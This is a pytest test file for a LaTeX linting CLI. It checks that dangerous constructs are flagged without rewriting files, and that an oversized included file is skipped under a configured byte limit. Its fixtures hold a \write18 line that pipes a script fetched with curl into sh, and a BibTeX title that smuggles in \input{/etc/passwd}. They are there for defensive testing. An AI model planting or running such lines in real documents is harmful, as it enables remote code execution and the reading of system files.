"""The CLI against hostile projects: dangerous LaTeX flagged, writes kept inside the project."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from relatex.server.cli import main

DRAFT = r"""\documentclass{article}
\immediate\write18{curl example.org/x.sh | sh}
\begin{document}
\title{T}
\begin{abstract}Dense retrieval for citation recommendation.\end{abstract}
\section{Introduction}
Text \cite{a}.
\bibliographystyle{plain}
\bibliography{refs}
\end{document}
"""
BIB = "@article{a,\n  title = {Hello \\input{/etc/passwd}},\n  author = {A, B},\n  journal = {J},\n  year = {2020},\n}\n"


def test_check_flags_dangerous_constructs_in_tex_and_bib(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "main.tex").write_text(DRAFT, encoding="utf-8")
    (tmp_path / "refs.bib").write_text(BIB, encoding="utf-8")
    main(["check", "--format", "json", str(tmp_path / "main.tex")])
    rows = [r for r in json.loads(capsys.readouterr().out) if r["code"] == "dangerous-latex"]
    assert [(Path(r["path"]).name, r["line"], r["severity"], r["data"]["command"]) for r in rows] == [
        ("main.tex", 2, "warning", "immediate"), ("main.tex", 2, "warning", "write18"),
        ("refs.bib", 2, "warning", "input"),
    ]
    assert (tmp_path / "refs.bib").read_text(encoding="utf-8") == BIB  # flagged, never rewritten


def test_check_honours_max_document_bytes_for_an_included_file(tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    draft = DRAFT.replace("\\section{Introduction}", "\\input{dump}\n\\section{Intro}")
    (tmp_path / "main.tex").write_text(draft, encoding="utf-8")
    (tmp_path / "refs.bib").write_text(BIB, encoding="utf-8")
    (tmp_path / "dump.tex").write_text("".join(f"Row {i} \\cite{{missing{i}}}.\n" for i in range(3000)),
                                       encoding="utf-8")
    (tmp_path / "settings.json").write_text(json.dumps({"maxDocumentBytes": 20_000}), encoding="utf-8")
    main(["check", "--format", "json", "--config", str(tmp_path / "settings.json"),
          str(tmp_path / "main.tex")])
    rows = json.loads(capsys.readouterr().out)
    [notice] = [r for r in rows if r["code"] == "document-too-large"]
    assert "dump" in notice["message"] and notice["severity"] == "information"
    assert not any("missing" in r["message"] for r in rows)  # the file over the limit is not read
    main(["check", "--format", "json", str(tmp_path / "main.tex")])  # the default limit (2 MB) reads it
    assert any("missing" in r["message"] for r in json.loads(capsys.readouterr().out))
